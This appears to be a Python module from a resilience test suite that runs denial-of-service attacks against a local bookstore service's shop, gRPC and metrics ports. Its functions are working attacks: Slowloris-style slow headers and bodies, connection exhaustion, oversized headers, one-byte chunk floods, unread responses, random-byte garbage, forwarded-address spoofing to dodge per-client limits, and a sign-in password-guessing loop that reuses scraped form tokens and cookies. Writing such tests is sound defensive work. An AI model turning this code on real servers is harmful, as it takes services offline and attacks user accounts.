"""Attacks over HTTP/1 and by connections, on the ports of the shop and of gRPC. Each is a generator
that yields after each operation."""
import itertools
import os
import random
import re
import time
from urllib.parse import urlencode

from target import connect, repeat

# More than the server allows for one peer.
CONNECTIONS = 4000
PAGE = b"GET /books/1 HTTP/1.1\r\nHost: localhost\r\n"


def _keep(open_one, drip=None):
    """Opens connections and keeps them; sends a few bytes on each now and then."""
    def attempt():
        opened = []
        for number in itertools.count():
            if len(opened) < CONNECTIONS:
                opened.append(open_one())
            yield
            if drip and number % 50 == 0:
                opened = [one for one in opened if _sends(one, drip)]
            if len(opened) >= CONNECTIONS:
                time.sleep(0.01)
    return repeat(attempt)


def _sends(connection, drip):
    try:
        connection.sendall(drip)
    except OSError:
        connection.close()
        return False
    return True


def silent_connections(target):
    """Connections that send nothing, on all ports."""
    ports = itertools.cycle([target.grpc, target.shop, target.metrics])
    return _keep(lambda: connect(next(ports)))


def short_connections(target):
    """Connections that are closed at once, on all ports."""
    def attempt():
        for port in itertools.cycle([target.grpc, target.shop, target.metrics]):
            connect(port).close()
            yield
    return repeat(attempt)


def slow_headers(target):
    """Headers that never end, a few bytes at a time (Slowloris)."""
    def open_one():
        connection = connect(target.shop)
        connection.sendall(PAGE)
        return connection
    return _keep(open_one, b"X-A: b\r\n")


def slow_form(target):
    """Forms that never end, a byte at a time."""
    begin = (b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n"
             b"Content-Type: application/x-www-form-urlencoded\r\n\r\nemail=")

    def open_one():
        connection = connect(target.shop)
        connection.sendall(begin)
        return connection
    return _keep(open_one, b"a")


def slow_grpc_web(target):
    """Messages of gRPC-Web that never end, a byte at a time."""
    begin = (b"POST /bookstore.inventory.v1.InventoryService/GetBook HTTP/1.1\r\nHost: localhost\r\n"
             b"Content-Type: application/grpc-web+proto\r\nTransfer-Encoding: chunked\r\n\r\n"
             b"5\r\n\0\0\0\xff\xff\r\n")

    def open_one():
        connection = connect(target.grpc)
        connection.sendall(begin)
        return connection
    return _keep(open_one, b"1\r\na\r\n")


def huge_headers(target):
    """One endless header, or endlessly many."""
    def attempt():
        for field in itertools.cycle([b"X-A: " + b"a" * 100_000, b"X-A: b\r\n" * 10_000]):
            with connect(target.shop) as connection:
                connection.sendall(PAGE)
                for _ in range(100):
                    connection.sendall(field)
                    yield
    return repeat(attempt)


def tiny_chunks(target):
    """A body in chunks of one byte, each with an extension."""
    begin = (b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n"
             b"Content-Type: application/x-www-form-urlencoded\r\n\r\n")
    chunks = (b"1;" + b"e" * 200 + b"\r\na\r\n") * 50

    def attempt():
        with connect(target.shop) as connection:
            connection.sendall(begin)
            while True:
                connection.sendall(chunks)
                for _ in range(50):
                    yield
    return repeat(attempt)


def unread_pages(target):
    """Requests for pages one after the other, by clients that read no answer."""
    def attempt():
        opened = []
        while True:
            connection = connect(target.shop)
            opened.append(connection)
            connection.setblocking(False)
            for _ in range(50):
                try:
                    connection.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                except BlockingIOError:
                    time.sleep(0.001)
                yield
    return repeat(attempt)


def garbage(target):
    """Random bytes on all ports."""
    def attempt():
        for port in itertools.cycle([target.grpc, target.shop, target.metrics]):
            with connect(port) as connection:
                for _ in range(random.randrange(1, 20)):
                    connection.sendall(os.urandom(random.randrange(1, 5000)))
                    yield
    return repeat(attempt)


def _pages(target, header):
    def attempt():
        with connect(target.shop) as connection:
            while True:
                connection.sendall(PAGE + header() + b"\r\n")
                _read_answer(connection)
                yield
    return repeat(attempt)


def pages(target):
    """Pages, as fast as they are sent."""
    return _pages(target, lambda: b"")


def invented_addresses(target):
    """The same, each as if forwarded for another client."""
    def header():
        client = ".".join(str(random.randrange(1, 255)) for _ in range(4))
        return f"X-Forwarded-For: {client}\r\nForwarded: for={client}\r\n".encode()
    return _pages(target, header)


def form_sign_ins(target):
    """Guesses of passwords by the form of the shop."""
    def attempt():
        with connect(target.shop) as connection:
            connection.sendall(b"GET /sign-in HTTP/1.1\r\nHost: localhost\r\n\r\n")
            head, page = _read_answer(connection)
            token = re.search(rb'name="form_token" value="([^"]+)"', page)
            cookies = b"; ".join(re.findall(rb"(?i)set-cookie: ([^;\r]+)", head))
            while token:
                form = urlencode({
                    "form_token": token[1].decode(), "email": f"user{random.random()}@example.org",
                    "password": "correct horse battery"}).encode()
                connection.sendall(
                    b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\nCookie: " + cookies
                    + b"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
                    + str(len(form)).encode() + b"\r\n\r\n" + form)
                _read_answer(connection)
                yield
        yield
    return repeat(attempt)


def _read_answer(connection):
    """The head and the body of an answer with a length or in chunks."""
    received = b""
    while b"\r\n\r\n" not in received:
        received += _receive(connection)
    head, body = received.split(b"\r\n\r\n", 1)
    length = re.search(rb"(?i)content-length: (\d+)", head)
    while len(body) < int(length[1]) if length else not body.endswith(b"0\r\n\r\n"):
        body += _receive(connection)
    return head, body


def _receive(connection):
    received = connection.recv(1 << 16)
    if not received:
        raise ConnectionResetError
    return received
